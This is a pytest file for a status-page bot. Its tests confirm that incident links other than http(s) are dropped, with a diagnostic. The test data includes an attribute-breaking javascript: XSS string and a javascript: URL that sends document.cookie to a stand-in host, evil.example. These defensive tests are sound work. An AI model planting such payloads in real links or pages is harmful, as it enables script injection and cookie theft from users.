"""Only http(s) links leave a status source: a hostile incident link is dropped, with a
diagnostic in the detail, on every platform (they all go through ``PageSource.observe``)."""

from __future__ import annotations

import copy
from typing import get_args

import httpx
import pytest

from bot.models import Incident, Status
from bot.sources import page_source_class
from bot.sources.instatus import InstatusSource
from bot.sources.reading import ComponentReading, IncidentReading, PageReading
from config.schema import StatusPageKind
from tests.fakes.status_server import FakeStatusServer, fixture_json

HOSTILE = 'javascript:alert(1)//" onmouseover="alert(2)'


@pytest.mark.parametrize("kind", get_args(StatusPageKind))
def test_every_platform_drops_a_link_that_is_not_http(kind: str) -> None:
    source = page_source_class(kind)("acme", "https://status.example.com", components=["api"])
    incident = Incident(id="inc1", title="Errors", url=HOSTILE, status="investigating")
    safe = Incident(id="inc2", title="Slow", url="https://status.example.com/i/2")
    reading = PageReading(
        components={"api": ComponentReading("api", "API", Status.DEGRADED)},
        incidents=[
            IncidentReading(incident, frozenset({"api"}), Status.DEGRADED),
            IncidentReading(safe, frozenset({"other"}), Status.DEGRADED),
        ],
    )
    [obs] = source.observe(reading)
    assert obs.incident is not None
    assert (obs.incident.id, obs.incident.url) == ("inc1", None)
    assert obs.detail == "incident 'inc1': link dropped (scheme 'javascript' is not http(s))"
    assert reading.incidents[1].incident.url == "https://status.example.com/i/2"  # kept


async def test_an_instatus_incident_with_a_hostile_url_is_told_without_it(
    status_server: FakeStatusServer,
) -> None:
    payload = copy.deepcopy(fixture_json("instatus_summary_perplexity_up.json"))
    payload["page"]["status"] = "HASISSUES"
    payload["activeIncidents"] = [
        {
            "name": "We're facing an issue with our API",
            "started": "Sat Jun 11 2022 18:55:50 GMT+0000 (Coordinated Universal Time)",
            "status": "INVESTIGATING",
            "impact": "MAJOROUTAGE",
            "url": "javascript:fetch('//evil.example/'+document.cookie)",
        }
    ]
    status_server.set_json("/summary.json", payload)
    async with httpx.AsyncClient() as client:
        [page] = await InstatusSource("perplexity", status_server.url).check(client)
    assert page.status is Status.MAJOR_OUTAGE
    assert page.incident is not None
    assert page.incident.title == "We're facing an issue with our API"
    assert page.incident.url is None
    assert "link dropped (scheme 'javascript' is not http(s))" in (page.detail or "")
